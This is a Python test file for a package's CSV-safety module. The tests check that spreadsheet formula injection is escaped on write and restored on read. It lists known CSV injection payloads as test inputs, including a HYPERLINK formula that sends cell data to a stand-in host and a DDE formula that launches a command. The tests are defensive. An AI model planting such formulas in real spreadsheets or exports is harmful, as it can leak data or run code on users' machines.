"""No CSV effipia writes can run code in a spreadsheet (issue 11, item 4), and the escaping
is undone on reading so that effipia's own files re-import unchanged (item 3)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st

from effipia.csvsafe import neutralise, restore, safe_frame, write_csv, write_rows
from effipia.tabular import csv_records, csv_text

SRC = Path(__file__).resolve().parents[2] / "src" / "effipia"
RISKY = ("=", "+", "-", "@", "\t", "\r")


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a CSV cell: a formula when it starts with a formula
    character and is not a plain number (as Excel and LibreOffice read them)."""
    if not cell.startswith(RISKY):
        return False
    try:
        float(cell.replace(",", "."))
        return False
    except ValueError:
        return True


def test_known_payloads_are_neutralised() -> None:
    # Payloads of the OWASP CSV injection page, and what a careless user types.
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0",
                "\t=1", "\r=1", "-abc", "=1"]
    for payload in payloads:
        assert neutralise(payload) == "'" + payload
        assert restore(neutralise(payload)) == payload
    for number in ("-1", "+33", "-2.5e3", "-0,5"):
        assert neutralise(number) == number  # a spreadsheet reads a number, not a formula


@settings(max_examples=400, derandomize=True, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r1a. ,e"), max_size=8) | st.text(max_size=20))
def test_neutralise_is_safe_and_reversible(value: str) -> None:
    written = neutralise(value)
    assert not runs_as_formula(written)
    assert restore(written) == value


@settings(max_examples=150, derandomize=True, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\t\n\r=+-@'"),
                        max_size=12), min_size=1, max_size=5))
def test_frame_written_then_read_gives_the_same_cells(cells: list[str]) -> None:
    frame = pl.DataFrame({f"c{i}": [v] for i, v in enumerate(cells)})
    text = write_csv(frame)
    raw = list(csv.reader(io.StringIO(text, newline="")))
    assert not any(runs_as_formula(cell) for cell in raw[1])  # what a spreadsheet would open
    records = [record for _, record in csv_records(csv_text(text.encode(), "f.csv"))]
    assert records[1] == cells  # what effipia reads back


def test_safe_frame_and_write_rows_agree_with_neutralise() -> None:
    values = ["=1", "-1", "@x", "ok", None, "'=x"]
    frame = pl.DataFrame({"v": values, "n": list(range(6))})
    assert safe_frame(frame)["v"].to_list() == [neutralise(v) for v in values]
    buffer = io.StringIO()
    write_rows(buffer, ["v"], [[v] for v in values])
    assert [r[0] for r in csv.reader(io.StringIO(buffer.getvalue()))][1:] == [neutralise(v) or "" for v in values]


def test_every_csv_writer_of_the_package_goes_through_csvsafe() -> None:
    # A guard: a new CSV writer must use effipia.csvsafe, not Polars' or the csv module's directly.
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                owner = node.func.value
                if node.func.attr == "write_csv" and not (isinstance(owner, ast.Name) and owner.id == "csvsafe"):
                    offenders.append(f"{path.relative_to(SRC)}:{node.lineno}")
                if node.func.attr in ("writer", "DictWriter") and isinstance(owner, ast.Name) and owner.id == "csv":
                    offenders.append(f"{path.relative_to(SRC)}:{node.lineno}")
    assert offenders == []


def test_a_folder_as_output_is_an_os_error(tmp_path) -> None:
    # Before: « invitations export --out FOLDER » printed Polars' English (or a traceback).
    import errno

    import pytest

    with pytest.raises(IsADirectoryError) as info:
        write_csv(pl.DataFrame({"a": ["x"]}), tmp_path)
    assert info.value.errno == errno.EISDIR and info.value.filename == str(tmp_path)
